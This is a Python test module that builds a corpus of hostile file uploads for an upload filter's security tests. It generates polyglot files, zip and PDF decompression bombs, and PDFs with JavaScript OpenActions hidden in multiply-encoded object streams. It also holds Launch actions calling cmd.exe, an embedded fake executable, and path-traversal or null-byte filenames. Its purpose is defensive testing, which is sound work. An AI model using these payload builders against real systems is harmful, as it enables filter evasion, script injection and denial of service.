"""The upload attack corpus: files an attacker would try, each with what must happen to it.

`refused`: the upload is refused with a clear message and nothing is stored.
`neutralised`: it may be stored, but only under a random name in the media folder, with one of the three
served types (application/pdf, image/jpeg, image/png) sniffed from its content, a display name without
paths or control characters, and it is only ever served as a download (attachment + nosniff).
"""

import base64
import binascii
import functools
import io
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

# A real one-page PDF without an xref table (qpdf rebuilds it, as every viewer does).
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU"
    b"\x00\x00\x00\nIDATx\x9cc`\x00\x00\x00\x02\x00\x01H\xaf\xa4q\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _zip_bomb() -> bytes:
    """A small zip whose one member inflates to 50 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ktp.pdf", b"\0" * (50 * 1024 * 1024))
    return buffer.getvalue()


# ---------------------------------------------------------------- PDFs built object by object

SCRIPT_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


def _ascii_hex(data: bytes) -> bytes:
    return binascii.hexlify(data) + b">"


def _ascii85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def _run_length(data: bytes) -> bytes:
    """RunLengthDecode: literal runs of at most 128 bytes, then the end marker 128."""
    out = bytearray()
    for start in range(0, len(data), 128):
        run = data[start : start + 128]
        out += bytes([len(run) - 1]) + run
    return bytes(out + b"\x80")


def _lzw(data: bytes) -> bytes:
    """LZWDecode with 9-bit literal codes only, clearing the table before it would need 10 bits."""
    codes = [256]
    for index, byte in enumerate(data):
        if index and index % 200 == 0:
            codes.append(256)
        codes.append(byte)
    codes.append(257)
    bits = "".join(format(code, "09b") for code in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


ENCODERS = {
    "/FlateDecode": zlib.compress,
    "/ASCIIHexDecode": _ascii_hex,
    "/ASCII85Decode": _ascii85,
    "/RunLengthDecode": _run_length,
    "/LZWDecode": _lzw,
}


def pdf_with_object_stream(catalog_extra: bytes, hidden: tuple[bytes, ...], filters: tuple[str, ...]) -> bytes:
    """A PDF 1.5 whose every object but the object stream itself sits inside that stream, encoded with
    `filters` (the first one is undone first), and an xref stream: no marker is visible in the raw bytes.
    Object 2 is the catalog, 3 the pages, 4 the page, 5… the `hidden` objects."""
    objects = (
        b"<< /Type /Catalog /Pages 3 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
        *hidden,
    )
    header, body = [], b""
    for number, text in enumerate(objects, start=2):
        header.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    first = b" ".join(header) + b"\n"
    payload = first + body
    for name in reversed(filters):
        payload = ENCODERS[name](payload)
    filter_array = b"[" + b" ".join(name.encode() for name in filters) + b"]"
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n" % (
        len(objects),
        len(first),
        filter_array,
        len(payload),
    )
    out += payload + b"\nendstream\nendobj\n"
    xref_number = len(objects) + 2
    xref_at = len(out)
    rows = [(0, 0, 65535), (1, stream_at, 0)]
    rows += [(2, 1, index) for index in range(len(objects))]
    rows += [(1, xref_at, 0)]
    table = b"".join(bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big") for kind, field, extra in rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _hidden_script(filters: tuple[str, ...]) -> bytes:
    """JavaScript run on opening, named only inside an object stream encoded with `filters`."""
    return pdf_with_object_stream(b"/OpenAction 5 0 R", (SCRIPT_ACTION,), filters)


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def _one_page() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def _built(change) -> bytes:
    """A one-page PDF made by pikepdf (qpdf), with `change(pdf)` applied."""
    pdf = _one_page()
    change(pdf)
    return _saved(pdf)


def _script(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)")))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _names_tree_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("mulai"), _script(pdf)])))


def _open_action_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _script(pdf)


def _open_action_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://phishing.example/login"))


def _page_aa(pdf: pikepdf.Pdf) -> None:
    # The page-open trigger visits a URL without a click: refused even though it is no script.
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://pelacak.example/buka")))


def _launch(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))))


def _submit_form(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://curi.example/"))))


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 100, 100]))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _unknown_filter(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q Q", Filter=Name("/RahasiaDecode"))


def _link_to_website(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://bandung.go.id/")))


def _open_at_first_page(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.FitH, None])


@functools.cache
def _deflate_bomb_pdf() -> bytes:
    """A valid PDF whose page content inflates to 200 MB: nothing may inflate it without a bound."""
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    stream = b"".join(compressor.compress(chunk) for _ in range(200)) + compressor.flush()

    def content(pdf):
        pdf.pages[0].obj.Contents = pdf.make_stream(stream, Filter=Name.FlateDecode)

    return _built(content)


@functools.cache
def _double_deflate_bomb_pdf() -> bytes:
    """Deflate of deflate: a few kilobytes that would inflate to 256 MB (each stage is bounded on its own)."""
    inner = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    once = b"".join(inner.compress(chunk) for _ in range(256)) + inner.flush()

    def content(pdf):
        pdf.pages[0].obj.Contents = pdf.make_stream(
            zlib.compress(once, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
        )

    return _built(content)


def _encrypted(user: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _saved(pdf, encryption=pikepdf.Encryption(owner="pemilik-rahasia", user=user))


def _truncated() -> bytes:
    data = _built(_names_tree_script)
    return data[: len(data) // 3]


@dataclass(frozen=True)
class Attack:
    name: str
    data: bytes
    filename: str
    outcome: str  # "refused" or "neutralised"
    allowed: tuple = ("pdf", "jpg", "png")


def corpus(max_bytes: int) -> list[Attack]:
    return [
        # polyglots: valid magic number, something else inside
        Attack("PDF/HTML polyglot", PDF + SCRIPT, "ktp.pdf", "neutralised"),
        Attack("PNG with HTML appended", PNG + SCRIPT, "foto.png", "neutralised"),
        Attack("JPEG/ZIP polyglot (GIFAR-style)", JPEG + _zip_bomb()[:2048], "foto.jpg", "neutralised"),
        Attack(
            "JPEG with a script in a comment segment",
            b"\xff\xd8\xff\xfe\x00\x40" + SCRIPT[:62] + JPEG[2:],
            "foto.jpg",
            "neutralised",
        ),
        # archives and bombs
        Attack("zip bomb named .pdf", _zip_bomb(), "ktp.pdf", "refused"),
        Attack("zip bomb named .zip", _zip_bomb(), "berkas.zip", "refused"),
        Attack("deflate bomb inside a PDF", _deflate_bomb_pdf(), "ktp.pdf", "refused"),
        # size
        Attack("oversize PDF", PDF + b"0" * max_bytes, "besar.pdf", "refused"),
        Attack("empty file", b"", "kosong.pdf", "refused"),
        # names
        Attack("double extension .pdf.exe", PDF, "ktp.pdf.exe", "refused"),
        Attack("double extension .php.pdf", PDF, "shell.php.pdf", "neutralised"),
        Attack("double extension .html.png", PNG, "halaman.html.png", "neutralised"),
        Attack("null byte in name", PDF, "ktp.pdf\x00.html", "refused"),
        Attack("null byte before extension", PDF, "ktp.html\x00.pdf", "neutralised"),
        Attack("path traversal ../", PDF, "../../../../etc/passwd.pdf", "neutralised"),
        Attack("path traversal ..\\", PDF, "..\\..\\windows\\system32\\ktp.pdf", "neutralised"),
        Attack("absolute path", PDF, "/var/lib/loket/media/ktp.pdf", "neutralised"),
        Attack("right-to-left override in name", PDF, "ktp\u202egpj.pdf", "neutralised"),
        Attack("very long name", PDF, "a" * 1000 + ".pdf", "neutralised"),
        Attack("name with HTML", PDF, "<img src=x onerror=alert(1)>.pdf", "neutralised"),
        # active content
        Attack("SVG with script named .svg", SVG, "foto.svg", "refused"),
        Attack("SVG with script named .png", SVG, "foto.png", "refused"),
        Attack("HTML disguised as JPEG", SCRIPT, "foto.jpg", "refused"),
        Attack("HTML disguised as PDF", SCRIPT, "ktp.pdf", "refused"),
        Attack("Windows executable named .pdf", b"MZ\x90\x00\x03" + b"\x00" * 60, "ktp.pdf", "refused"),
        Attack(
            "PDF with /JavaScript",
            PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction " + SCRIPT_ACTION),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /OpenAction",
            PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction 4 0 R"),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /Launch",
            PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<< /S /Launch /F (cmd.exe) >>"),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with an embedded file",
            PDF.replace(b"/Type/Catalog", b"/Type/Catalog/X<< /Type /EmbeddedFile >>"),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with hex-escaped /J#61vaScript name",
            PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<< /S /J#61vaScript /J#53 (x) >>"),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript hidden in a compressed object stream",
            _hidden_script(("/FlateDecode",)),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript in an /ASCIIHexDecode object stream",
            _hidden_script(("/ASCIIHexDecode",)),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript in an [/ASCIIHexDecode /FlateDecode] object stream",
            _hidden_script(("/ASCIIHexDecode", "/FlateDecode")),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript in an /ASCII85Decode object stream",
            _hidden_script(("/ASCII85Decode",)),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript in an [/ASCII85Decode /RunLengthDecode] object stream",
            _hidden_script(("/ASCII85Decode", "/RunLengthDecode")),
            "ktp.pdf",
            "refused",
        ),
        Attack(
            "PDF with /JavaScript in an /LZWDecode object stream",
            _hidden_script(("/LZWDecode",)),
            "ktp.pdf",
            "refused",
        ),
        Attack("PDF with JavaScript in the names tree", _built(_names_tree_script), "ktp.pdf", "refused"),
        Attack("PDF with an /OpenAction script", _built(_open_action_script), "ktp.pdf", "refused"),
        Attack("PDF with an /OpenAction that opens a URL", _built(_open_action_uri), "ktp.pdf", "refused"),
        Attack("PDF with /AA on a page", _built(_page_aa), "ktp.pdf", "refused"),
        Attack("PDF with a /Launch link", _built(_launch), "ktp.pdf", "refused"),
        Attack("PDF with a /SubmitForm link", _built(_submit_form), "ktp.pdf", "refused"),
        Attack("PDF with an XFA form", _built(_xfa), "ktp.pdf", "refused"),
        Attack("PDF with an attached .exe", _built(_attachment), "ktp.pdf", "refused"),
        Attack("PDF with a /RichMedia annotation", _built(_rich_media), "ktp.pdf", "refused"),
        Attack("PDF with an unknown stream filter", _built(_unknown_filter), "ktp.pdf", "refused"),
        Attack("PDF bomb: deflate of deflate", _double_deflate_bomb_pdf(), "ktp.pdf", "refused"),
        Attack("encrypted PDF (user password)", _encrypted("sandi"), "ktp.pdf", "refused"),
        Attack("encrypted PDF (empty user password)", _encrypted(""), "ktp.pdf", "refused"),
        Attack("truncated PDF", _truncated(), "ktp.pdf", "refused"),
        Attack("garbage after a PDF header", b"%PDF-1.7\n" + bytes(range(256)) * 16, "ktp.pdf", "refused"),
        # ordinary PDFs with harmless navigation stay accepted
        Attack("PDF with a link to a website", _built(_link_to_website), "surat.pdf", "neutralised"),
        Attack("PDF that opens at its first page", _built(_open_at_first_page), "surat.pdf", "neutralised"),
        Attack(
            "PDF with its objects in an [/ASCIIHexDecode /FlateDecode] object stream",
            pdf_with_object_stream(b"", (), ("/ASCIIHexDecode", "/FlateDecode")),
            "surat.pdf",
            "neutralised",
        ),
        Attack(
            "PDF saved by qpdf with object streams",
            _saved(_one_page(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
            "surat.pdf",
            "neutralised",
        ),
        # type confusion
        Attack("PDF where the slot takes images only", PDF, "ktp.pdf", "refused", allowed=("jpg", "png")),
        Attack("PNG renamed .jpg", PNG, "foto.jpg", "refused"),
    ]
